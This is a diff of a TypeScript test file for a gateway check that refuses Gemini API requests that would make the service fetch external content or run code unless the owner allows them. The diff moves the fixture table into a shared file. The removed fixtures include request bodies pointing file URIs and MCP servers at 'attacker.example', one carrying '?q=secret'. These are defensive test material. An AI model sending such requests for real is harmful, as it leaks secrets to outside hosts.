@@ -1,75 +1,25 @@
 import { describe, expect, it } from "vitest";
 import { Fields } from "../../../gateway/http/fields.ts";
+import { geminiFetchers } from "../../../../tests/support/gemini-fetchers.ts";
 import type { GeminiCredential } from "../../../manifest/manifest.ts";
 import { judgeGemini } from "./judge.ts";
 import { compileGemini } from "./preset.ts";
 
 const judge = (body: object, named: readonly string[] = []): ReturnType<typeof judgeGemini> =>
   judgeGemini(Buffer.from(JSON.stringify(body)), named);
-const base = { contents: [{ role: "user", parts: [{ text: "hello" }] }] };
-const part = (value: object): object => ({ contents: [{ role: "user", parts: [value] }] });
-const tool = (value: object): object => ({ ...base, tools: [value] });
-const file = { fileUri: "https://attacker.example/?q=secret" };
-
-/** What would make the service act, with the name that allows it. */
-const fetchers: readonly (readonly [string, object, string])[] = [
-  ["a look at addresses", tool({ urlContext: {} }), "url_context"],
-  ["the same in the other spelling", tool({ url_context: {} }), "url_context"],
-  ["a search", tool({ googleSearch: {} }), "google_search"],
-  ["the older search", tool({ google_search_retrieval: {} }), "google_search_retrieval"],
-  ["code that the service runs", tool({ codeExecution: {} }), "code_execution"],
-  [
-    "a search beside functions",
-    tool({ functionDeclarations: [], googleSearch: {} }),
-    "google_search",
-  ],
-  ["a tool that stands alone", { ...base, tools: { googleSearch: {} } }, "google_search"],
-  ["a map", tool({ googleMaps: {} }), "google_maps"],
-  ["a file search", tool({ fileSearch: { fileSearchStoreNames: ["x"] } }), "file_search"],
-  ["MCP servers", tool({ mcpServers: [{ url: "https://attacker.example/" }] }), "mcp_servers"],
-  ["a tool that nobody knows", tool({ teleport: {} }), "teleport"],
-  ["a file by address", part({ fileData: file }), "file_data"],
-  [
-    "a file by address in the other spelling",
-    part({ file_data: { file_uri: "gs://x/y" } }),
-    "file_data",
-  ],
-  [
-    "a file in a function's answer",
-    part({ functionResponse: { name: "f", response: {}, parts: [{ fileData: file }] } }),
-    "file_data",
-  ],
-  [
-    "a file in the system's words",
-    { ...base, systemInstruction: { parts: [{ fileData: file }] } },
-    "file_data",
-  ],
-  ["a file in a part that stands alone", { contents: { parts: { fileData: file } } }, "file_data"],
-  [
-    "a file to be counted",
-    { generateContentRequest: { model: "models/x", ...part({ fileData: file }) } },
-    "file_data",
-  ],
-  ["a cache of the account", { ...base, cachedContent: "cachedContents/x" }, "cached_content"],
-  ["code as a part", part({ executableCode: { code: "x" } }), "executable_code"],
-  [
-    "an address in the settings",
-    { ...base, generationConfig: { speechConfig: { uri: "https://attacker.example/" } } },
-    "uri",
-  ],
-  ["a field that nobody knows", { ...base, webhook: "x" }, "webhook"],
-];
-
 describe("the judge of Gemini requests", () => {
-  it.each(fetchers)("refuses %s, and says how the owner can allow it", (_what, body, name) => {
-    expect(judge(body, ["something_else"])).toMatchObject({
-      ok: false,
-      code: "server-side-fetch",
-      message: expect.stringMatching(/serverTools: \[[\w.:-]+\]$/) as string,
-    });
-    const named = name === "file_data" ? [name, "file_uri"] : [name];
-    expect(judge(body, named)).toEqual({ ok: true });
-  });
+  it.each(geminiFetchers)(
+    "refuses %s, and says how the owner can allow it",
+    (_what, body, name) => {
+      expect(judge(body, ["something_else"])).toMatchObject({
+        ok: false,
+        code: "server-side-fetch",
+        message: expect.stringMatching(/serverTools: \[[\w.:-]+\]$/) as string,
+      });
+      const named = name === "file_data" ? [name, "file_uri"] : [name];
+      expect(judge(body, named)).toEqual({ ok: true });
+    },
+  );
 
   it("lets pass what gemini-cli sends", () => {
     expect(
